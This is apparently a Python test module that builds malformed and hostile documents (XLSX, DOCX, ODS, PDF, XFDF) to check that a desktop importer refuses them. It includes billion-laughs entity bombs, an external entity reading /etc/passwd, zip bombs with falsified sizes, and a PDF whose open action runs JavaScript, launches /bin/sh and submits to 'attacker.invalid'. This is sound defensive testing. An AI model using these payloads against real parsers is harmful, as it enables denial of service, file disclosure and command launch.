"""Files that mean harm, or would do it by chance: bombs, entities, far cells, lies about sizes, damage, passwords."""

from __future__ import annotations

import io
import zipfile

from kompetanse_desktop.exchange import packages
from tests.exchange.corpus import old_excel
from tests.exchange.corpus.case import BAD_PARTS, DAMAGED, LOCKED, TABLE, TOO_LARGE, Case, Refused, Wanted
from tests.exchange.corpus.packing import (
    FIELDS,
    SHEET,
    SPREADSHEET,
    STRINGS,
    changed,
    docx,
    ods,
    ods_rows,
    parts_of,
    pdf,
    with_cells,
    xfdf,
    xlsx,
    zipped,
)

REPEATED = "&l{};"
LAUGHS = "".join(f'<!ENTITY l{n} "{REPEATED.format(n - 1) * 10 if n else "ha"}">' for n in range(10))
BOMB = f"<!DOCTYPE x [{LAUGHS}]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def _defined(data: bytes, part: str, definitions: str) -> bytes:
    """Give a zipped document with definitions before one of its parts."""

    def define(xml: bytes) -> bytes:
        start = xml.find(b"?>") + 2 if xml.startswith(b"<?xml") else 0
        return xml[:start] + definitions.encode() + xml[start:]

    return changed(data, part, define)


def _lying_size() -> bytes:
    """Say in the archive's list that a part of three megabytes is of ten bytes."""
    data = bytearray(changed(xlsx(), "xl/media/stor.bin", lambda _: b"\0" * 3_000_000))
    at = data.rfind(b"PK\1\2", 0, data.rfind(b"xl/media/stor.bin"))
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _real_bomb() -> bytes:
    """Add a part that is more than all parts may be together, packed to a thousandth of it."""
    return changed(xlsx(), "xl/media/bombe.bin", lambda _: bytes(packages.MOST_INFLATED))


def _form_bomb() -> bytes:
    """Give a form with a text of three megabytes, packed."""
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.Root.AcroForm.Fields[0].V = document.make_stream(b"x" * 3_000_000)
        out = io.BytesIO()
        document.save(out, compress_streams=True)
    return out.getvalue()


def _encrypted_flag() -> bytes:
    """Set the bit that says a part is encrypted, in the archive's list and before the part."""
    data = bytearray(xlsx())
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + flags] |= 1
    return bytes(data)


def _many_parts() -> bytes:
    return zipped({**parts_of(xlsx()), **{f"xl/x{n}.xml": b"<a/>" for n in range(60)}})


def _twice() -> bytes:
    """Put the sheet into the archive twice, the second time another."""
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("xl/worksheets/../worksheets/sheet1.xml")
        archive.writestr(entry, b"<worksheet/>")
    return out.getvalue()


def _broken_inside() -> bytes:
    """Spoil bytes of the packed sheet, so that its checksum is wrong."""
    data = bytearray(xlsx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo(SHEET)
    start = entry.header_offset + 30 + len(SHEET) + entry.compress_size // 2
    data[start : start + 8] = b"\xff" * 8
    return bytes(data)


def _fields_in_a_circle() -> bytes:
    """Make a form's field its own child."""
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf())) as document:
        field = document.Root.AcroForm.Fields[0]
        field.Kids = pikepdf.Array([field])
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


def _script() -> bytes:
    """Give a form that would run a script, start a program and send itself away when it is opened."""
    from pikepdf import Array, Dictionary, Name, String

    run = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"))
    send = Dictionary(S=Name.SubmitForm, F=String("attacker.invalid"))
    return pdf(catalog={"/OpenAction": Dictionary(S=Name.JavaScript, JS=String("x"), Next=Array([run, launch, send]))})


CASES = [
    Case("far.xlsx", lambda: with_cells(FAR), "a stray cell at the far corner", Refused(TOO_LARGE)),
    Case(
        "far-unusual.xlsx",
        lambda: with_cells(FAR.replace(b'"', b"'").replace(b"<c r=", b"<c  r = ")),
        "the same written in another way",
        Refused(TOO_LARGE),
    ),
    Case(
        "far-down.xlsx",
        lambda: with_cells(b'<row r="1000000"><c r="A1000000"><v>1</v></c></row>'),
        "a stray cell far down",
        Refused(TOO_LARGE),
    ),
    Case(
        "16384-columns.xlsx",
        lambda: with_cells(b'<row r="5"><c r="XFD5"><v>1</v></c></row>'),
        "16,384 columns",
        Refused(TOO_LARGE),
    ),
    Case(
        "bomb.xlsx",
        lambda: changed(xlsx(), "xl/media/bombe.bin", lambda _: b"\0" * 3_000_000),
        "a small file that unpacks to a huge one (a small limit here)",
        Refused(TOO_LARGE),
        limits={"packages.MOST_INFLATED": 1_000_000},
    ),
    Case(
        "real-bomb.xlsx",
        _real_bomb,
        "three hundred kilobytes that would be three hundred megabytes",
        Refused(TOO_LARGE),
    ),
    Case(
        "bomb.pdf",
        _form_bomb,
        "a form whose text unpacks to far more (a small limit here)",
        Refused(DAMAGED),
        limits={"pdf_forms.MOST_DECODED": 1_000_000},
    ),
    Case(
        "lying-size.xlsx",
        _lying_size,
        "a part that says it is small (a small limit here)",
        Refused(TOO_LARGE),
        limits={"packages.MOST_INFLATED": 1_000_000},
    ),
    Case(
        "many-parts.xlsx",
        _many_parts,
        "thousands of parts (a small limit here)",
        Refused(TOO_LARGE),
        limits={"packages.MOST_PARTS": 50},
    ),
    Case("laughs.xlsx", lambda: _defined(xlsx(), STRINGS, BOMB), "entities that blow up", Refused(BAD_PARTS)),
    Case("laughs-sheet.xlsx", lambda: _defined(xlsx(), SHEET, BOMB), "the same in the sheet", Refused(BAD_PARTS)),
    Case("outside.xlsx", lambda: _defined(xlsx(), STRINGS, OUTSIDE), "an entity that reads a file", Refused(BAD_PARTS)),
    Case("laughs.docx", lambda: _defined(docx(), "word/document.xml", BOMB), "entities in Word", Refused(BAD_PARTS)),
    Case(
        "outside.docx",
        lambda: _defined(docx(), "word/document.xml", OUTSIDE),
        "a file read from Word",
        Refused(BAD_PARTS),
    ),
    Case("laughs.ods", lambda: _defined(ods(), "content.xml", BOMB), "entities in LibreOffice", Refused(BAD_PARTS)),
    Case("laughs.xfdf", lambda: xfdf({**FIELDS, "Skildring": "x"}, BOMB), "entities in XFDF", Refused(BAD_PARTS)),
    Case("outside.xfdf", lambda: xfdf(before=OUTSIDE), "a file read from XFDF", Refused(BAD_PARTS)),
    Case(
        "repeated-filled.ods",
        lambda: ods(
            '<table:table table:name="Ark1">'
            + ods_rows(TABLE, ' table:number-rows-repeated="500000"')
            + "</table:table>"
        ),
        "rows that repeat half a million times",
        Refused(TOO_LARGE),
    ),
    Case(
        "deep.docx",
        lambda: docx("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000),
        "elements nested five thousand deep",
        Refused(DAMAGED),
    ),
    Case(
        "circle.pdf",
        _fields_in_a_circle,
        "a form's field that is its own child",
        Wanted(asked={}, rejected={2: "The row has no title."}, notes=("No column was understood as: {field}.",)),
    ),
    Case("script.pdf", _script, "scripts in a form are not run", Wanted(asked={"21-01": 450_000})),
    # --- passwords
    Case(
        "password.xlsx",
        lambda: old_excel.compound({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}),
        "a workbook with a password",
        Refused(LOCKED),
    ),
    Case("flagged.xlsx", _encrypted_flag, "an archive with a password", Refused(LOCKED)),
    Case(
        "password.ods",
        lambda: ods(manifest="<manifest><encryption-data/></manifest>"),
        "LibreOffice with a password",
        Refused(LOCKED),
    ),
    Case("password.xls", lambda: old_excel.xls(first=old_excel.locked()), "old Excel with a password", Refused(LOCKED)),
    # --- damage
    Case("cut.xlsx", lambda: xlsx()[:-200], "cut off at the end", Refused(DAMAGED)),
    Case("half.xlsx", lambda: xlsx()[:3000], "half of it", Refused(DAMAGED)),
    Case("broken.xlsx", _broken_inside, "damage within a part", Refused(DAMAGED)),
    Case("twice.xlsx", _twice, "a part more, named so that it would lie in the sheet's place"),
    Case(
        "no-sheet.xlsx",
        lambda: zipped({k: v for k, v in parts_of(xlsx()).items() if k != SHEET}),
        "no sheet in it",
        Refused(DAMAGED),
    ),
    Case("cut.ods", lambda: ods()[:-30], "LibreOffice, cut off", Refused(DAMAGED)),
    Case("cut.xls", lambda: old_excel.xls()[:3000], "old Excel, cut off", Refused(DAMAGED)),
    Case("cut.docx", lambda: docx()[:-30], "Word, cut off", Refused(DAMAGED)),
    Case("cut.pdf", lambda: pdf()[:120], "a PDF, cut off", Refused(DAMAGED)),
    Case("cut.xfdf", lambda: xfdf()[:-30], "XFDF, cut off", Refused(DAMAGED)),
    Case(
        "mimetype.ods", lambda: ods(mimetype=SPREADSHEET + b"-template"), "a template of LibreOffice is read as a list"
    ),
]
